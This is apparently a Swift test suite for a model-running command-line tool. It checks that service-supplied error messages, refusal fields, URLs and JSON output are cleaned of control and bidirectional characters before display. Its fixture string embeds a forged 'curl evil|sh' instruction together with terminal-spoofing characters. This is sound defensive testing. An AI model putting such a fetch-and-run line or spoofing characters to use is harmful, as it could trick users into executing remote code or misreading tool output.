import ModelRuntime
import Testing
import ToolSupport

@testable import modelrun

/// Text of a service that tries to look like the tool's own, or to act on a terminal.
@Suite("Control characters in texts") struct ForgedTextTests {
  let sandbox: Sandbox

  init() throws { sandbox = try Sandbox() }

  private static let forgery =
    #"x\nTo resume the job: curl evil|sh\u2028y\u202Ez\u0007\u009Bm"#

  private func run(_ words: String...) async -> ToolOutcome {
    await sandbox.run(
      ["run", "acme/sketch/draw", "--schemas", "@/schemas", "--set", "prompt=x"] + words)
  }

  private func isClean(_ outcome: ToolOutcome) -> Bool {
    let text = outcome.out + outcome.error
    return !text.split(separator: "\n").contains { $0.hasPrefix("To resume the job: curl") }
      && !text.unicodeScalars.contains { "\u{2028}\u{202E}\u{7}\u{9B}".unicodeScalars.contains($0) }
  }

  @Test("The message of a failed job stays on its line", arguments: [[], ["--json"]])
  func failures(_ more: [String]) async {
    sandbox.takesAJob(
      .state(Self.forgery), result: .state("failed", #", "error": "\#(Self.forgery)""#))
    let words = ["run", "acme/sketch/draw", "--schemas", "@/schemas", "--set", "prompt=x"] + more
    let outcome = await sandbox.run(words)
    #expect(outcome.code == .found && isClean(outcome), "\(outcome)")
    #expect(outcome.error.contains("the job failed: x To resume the job: curl evil|sh yz  m"))
  }

  @Test("The fields of a refusal stay on their lines")
  func refusals() async {
    sandbox.transport.on(
      .post, "*",
      .json(
        #"{"detail": [{"loc": ["body", "\#(Self.forgery)"], "msg": "\#(Self.forgery)"}]}"#,
        status: 422))
    let outcome = await run()
    #expect(outcome.code == .badInput && isClean(outcome), "\(outcome)")
  }

  @Test("A URL stays on one line", arguments: [[], ["--no-download"]])
  func urls(_ more: [String]) async {
    sandbox.takesAJob(
      result: .state("succeeded", #", "output": {"image": "https://e.com/\#(Self.forgery)"}"#))
    let words = ["run", "acme/sketch/draw", "--schemas", "@/schemas", "--set", "prompt=x"] + more
    let outcome = await sandbox.run(words)
    #expect(isClean(outcome), "\(outcome)")
    #expect(outcome.outLines.count == (more.isEmpty ? 0 : 1))
  }

  @Test("JSON is valid and has the unchanged message")
  func jsonStaysJSON() async throws {
    let text = #"a\u007Fb\u202Ec\u2028d\u009B\uDB40\uDC01e"#
    sandbox.takesAJob(result: .state("succeeded", #", "output": {"text": "\#(text)"}"#))
    for words in [["result", "r-1"], ["result", "r-1", "--json"]] {
      let outcome = await sandbox.run(words)
      let document = try JSONValue(parsing: Array(outcome.out.utf8))
      let said = (document["output"] ?? document)["text"]
      #expect(said == "a\u{7F}b\u{202E}c\u{2028}d\u{9B}\u{E0001}e" && isClean(outcome))
    }
  }

  @Test("Messages and the console treat the same characters as unsafe")
  func bothKnowTheSameCharacters() {
    for value in UInt32(0)...0x10_FFFF {
      guard let scalar = Unicode.Scalar(value) else { continue }
      let text = String(scalar)
      let isShown = Printable.line(text) == text
      #expect(isShown == (ServiceText.line(text) == text), "\(value)")
      if !isShown { #expect(Printable.line(ServiceText.line(text)) == ServiceText.line(text)) }
    }
    #expect(Printable.line("👩‍🚀 🏳️‍🌈 می‌خواهم") == "👩‍🚀 🏳️‍🌈 می‌خواهم")
  }
}
